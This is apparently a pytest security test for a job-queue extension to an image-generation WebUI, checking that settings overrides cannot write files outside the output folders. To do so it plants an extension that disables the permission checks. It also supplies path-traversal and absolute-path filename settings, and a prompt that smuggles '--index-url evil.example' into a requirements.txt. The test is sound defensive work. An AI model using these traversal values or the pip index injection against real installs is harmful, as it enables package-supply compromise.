"""A task saves inside an output folder, even when nothing else holds it back: the allow list of settings is
taken out here by an extension. On the sandbox and, with ``--webui PATH``, on a real WebUI."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from .kit.whole import Jobs, make

#: takes every setting and script for allowed
HOLE = """
import sys
from modules import script_callbacks

def open_hole(demo, app):
    permits = sys.modules["inu_jobs.webui.host.permits"].WebuiPermits
    permits.refused_setting = permits.refused_script = lambda self, name: ""

script_callbacks.on_app_started(open_hole)
"""
TEXT = "--index-url evil.example --requirement x"
SMALL = {"prompt": TEXT, "steps": 1, "width": 64, "height": 64, "sampler_name": "Euler", "seed": 1}
#: writes the infotext, which begins with the prompt, over victim/requirements.txt
CRASH = {
    "directories_filename_pattern": "../../victim",
    "samples_filename_pattern": "requirements",
    "save_images_add_number": False,
    "save_txt": True,
}


@pytest.fixture(scope="module", params=["sandbox", "webui"])
def host(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Jobs]:
    folder = tmp_path_factory.mktemp("host")
    hole = folder / "extensions" / "hole" / "scripts" / "hole.py"
    hole.parent.mkdir(parents=True)
    hole.write_text(HOLE)
    (folder / "victim").mkdir()
    (folder / "victim" / "requirements.txt").write_text("pillow\n")
    with make(str(request.param), request.config, folder) as running:
        yield Jobs(running)


def queue(host: Jobs, **payload: Any) -> str:
    body = {"kind": "txt2img", "payload": SMALL | payload, "force": True}
    return str(host.api("/jobs", body)["id"])


def outside(host: Jobs) -> set[Path]:
    """All that lies in the data folder but for what the WebUI itself and the test put there."""
    known = {"outputs", "output", "inu-jobs", "extensions", "models", "cache", "log", "tmp", "config_states"}
    tops = {path for path in host.host.folder.iterdir() if path.is_dir() and path.name not in known}
    return tops | {path for top in tops for path in top.rglob("*")}


@pytest.mark.parametrize(
    "settings",
    [
        CRASH,
        {**CRASH, "directories_filename_pattern": "../../new/[seed]"},
        {**CRASH, "save_to_dirs": False, "samples_filename_pattern": "../../victim/requirements"},
        {**CRASH, "directories_filename_pattern": "ABSOLUTE"},
        {"save_init_img": True, "outdir_samples": "ABSOLUTE"},
    ],
    ids=["crash", "new folder", "file name", "absolute", "output folder"],
)
def test_nothing_is_written_outside_the_output_folders(host: Jobs, settings: dict[str, Any]) -> None:
    before = outside(host)
    absolute = str(host.host.folder / "victim")
    given = {name: absolute if value == "ABSOLUTE" else value for name, value in settings.items()}
    job = queue(host, override_settings=given)
    assert host.until_ended(job) == {"failed": 1}
    (task,) = host.api(f"/jobs/{job}")["tasks"]
    assert "outside the WebUI's output folders" in task["error"] and "nothing was written" in task["error"]
    assert not task["error"].startswith("The WebUI says")
    assert outside(host) == before, "not even a folder"
    assert (host.host.folder / "victim" / "requirements.txt").read_text() == "pillow\n"
    good = queue(host)
    assert host.until_ended(good) == {"done": 1}, "the queue goes on"
    assert len(host.files(good)) == 1


def test_a_script_that_names_a_folder_saves_where_the_settings_say(host: Jobs) -> None:
    before = outside(host)
    line = f'--prompt "a dog" --outpath_samples "{(host.host.folder / "victim").as_posix()}"'
    script = {"script_name": "prompts from file or textbox", "script_args": [False, False, "start", line]}
    job = queue(host, **script)
    assert host.until_ended(job) == {"done": 1}
    assert outside(host) == before
    (path,) = host.files(job)
    assert path.startswith(("outputs/", "output/"))  # the second is Forge Neo's


def test_what_somebody_else_generates_is_left_alone(host: Jobs) -> None:
    payload = {
        **SMALL,
        "save_images": True,
        "override_settings": {**CRASH, "samples_filename_pattern": "mine"},
    }
    host.host.request("/sdapi/v1/txt2img", payload)
    folder = host.host.folder / "victim"
    assert {path.name for path in folder.iterdir()} == {"requirements.txt", "mine.png", "mine.txt"}
    assert TEXT in (folder / "mine.txt").read_text()
    for path in ("mine.png", "mine.txt"):
        (folder / path).unlink()
